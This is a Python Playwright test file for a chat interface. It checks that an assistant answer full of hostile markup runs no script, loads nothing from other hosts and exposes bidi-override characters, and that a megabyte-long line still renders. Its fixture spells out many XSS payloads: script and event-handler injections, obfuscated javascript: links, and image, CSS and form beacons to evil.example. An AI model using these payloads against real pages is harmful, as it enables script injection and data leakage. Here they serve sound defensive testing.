"""What an answer cannot do in the page: act, load, point elsewhere unseen, or make it stand still."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from scripted_service import ScriptedService
from serving import Running

ANSWER = """<script>window.acted = 1</script><img src=x onerror="window.acted = 1">
<iframe srcdoc="<script>parent.acted = 1</script>"></iframe><svg onload="window.acted = 1">

[one](javascript:window.acted=1) [two](JaVaScRiPt&colon;window.acted=1) [three](data:text/html,hello)
[four](vbscript:x)
[five](//evil.example/five) [six](https://evil.example/six "x\\" onclick=\\"window.acted=1")

![beacon](https://evil.example/beacon.png?secret) ![](http://evil.example/second.gif)

<style>body { background: url(https://evil.example/css) }</style>
<form action="https://evil.example"><input name=a><button>send</button></form>
<a href="https://evil.example" ping="https://evil.example/ping">link</a>

| <b onclick=1>cell</b> | [x](javascript:window.acted=1) |
|---|---|
| 1 | 2 |

```html" onmouseover="window.acted=1
</code></pre><script>window.acted = 1</script>
```

pay \u202eevil.example\u202c now, and `rm \u2066x\u2069`

[ref]: javascript:window.acted=1
[the ref][ref]
"""


@pytest.fixture
def page(talk: tuple[Running, ScriptedService], visit: Callable[..., Page]) -> Page:
    return visit(f"http://127.0.0.1:{talk[0].port}")


def until(page: Page, true: str) -> None:
    """Wait for what `page.wait_for_function` cannot ask here: the page allows no eval."""
    for _ in range(400):
        if page.evaluate(true):
            return
        page.wait_for_timeout(50)
    raise AssertionError(true)


def answered(page: Page) -> None:
    page.locator(".composer textarea").fill("Go")
    page.keyboard.press("Enter")
    expect(page.locator(".message.assistant .actions")).to_be_visible()


def test_a_hostile_answer_does_nothing_and_loads_nothing(
    talk: tuple[Running, ScriptedService], page: Page
) -> None:
    """What was loaded is checked by `visit`: no other host was asked for anything."""
    talk[1].script = [f"[think]{ANSWER}[say]{ANSWER}[call x]{ANSWER}"]
    answered(page)
    answer = page.locator(".message.assistant")
    expect(answer.locator(".text")).to_contain_text("the ref")
    assert answer.locator("script, iframe, img, svg, style, form, input, object, embed").count() == 0
    found = answer.locator("*").evaluate_all(
        "all => all.flatMap(each => [...each.attributes])"
        ".map(each => each.name).filter(name => /^on|style|ping|src/.test(name))"
    )
    assert found == []
    links = answer.locator(".text a[href]").evaluate_all("all => all.map(each => each.href)")
    assert links
    assert all(link.startswith(("https://evil.example", "http://evil.example")) for link in links)
    assert {"noopener noreferrer nofollow"} == set(
        answer.locator(".text a[href]").evaluate_all("all => all.map(each => each.rel)")
    )
    for each in answer.locator("a, td, th, code").all():
        each.dispatch_event("mouseover")
    assert page.evaluate("window.acted") is None
    text = answer.inner_text()
    assert "\u202e" not in text
    assert "⟦U+202E⟧" in text


def test_a_line_of_a_megabyte_is_shown_and_the_page_goes_on(
    talk: tuple[Running, ScriptedService], page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("scripted_service.SIZE", 50_000)
    talk[1].script = ["x" * 1_000_000, "Small."]
    answered(page)
    until(page, "document.querySelector('.message.assistant .text').textContent.trim().length === 1000000")
    page.keyboard.press("Control+Shift+O")
    page.locator(".composer textarea").fill("And?")
    page.keyboard.press("Enter")
    expect(page.locator(".message.assistant .text").last).to_have_text("Small.")
